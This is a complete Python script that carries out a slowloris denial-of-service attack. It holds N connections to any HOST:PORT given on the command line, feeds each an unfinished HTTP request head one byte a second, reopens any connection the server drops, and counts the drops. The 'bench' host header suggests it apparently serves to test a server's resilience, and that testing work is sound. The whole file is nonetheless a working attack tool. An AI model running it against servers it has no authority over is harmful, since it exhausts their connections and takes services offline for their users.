#!/usr/bin/env python3
"""Holds N connections to HOST:PORT, each dribbling one request-head byte a second
and never finishing the head; a connection the server cuts is opened again.
Usage: slowloris.py HOST PORT N SECONDS. Prints how many connections were cut."""
import socket, sys, time, selectors

host, port, n, secs = sys.argv[1], int(sys.argv[2]), int(sys.argv[3]), float(sys.argv[4])
sel = selectors.DefaultSelector()
cut = 0

def open_one():
    s = socket.create_connection((host, port))
    s.setblocking(False)
    s.send(b"GET /api/v2/runtimes HTTP/1.1\r\nHost: bench\r\n")
    sel.register(s, selectors.EVENT_READ)
    return s

socks = [open_one() for _ in range(n)]
end = time.time() + secs
while time.time() < end:
    for key, _ in sel.select(timeout=1.0):
        s = key.fileobj
        try:
            data = s.recv(65536)
        except OSError:
            data = b""
        if not data:
            sel.unregister(s)
            s.close()
            socks.remove(s)
            cut += 1
            socks.append(open_one())
    for s in socks:
        try:
            s.send(b"X")
        except OSError:
            pass
print(f"slowloris: {n} connections held, {cut} cut by the server")
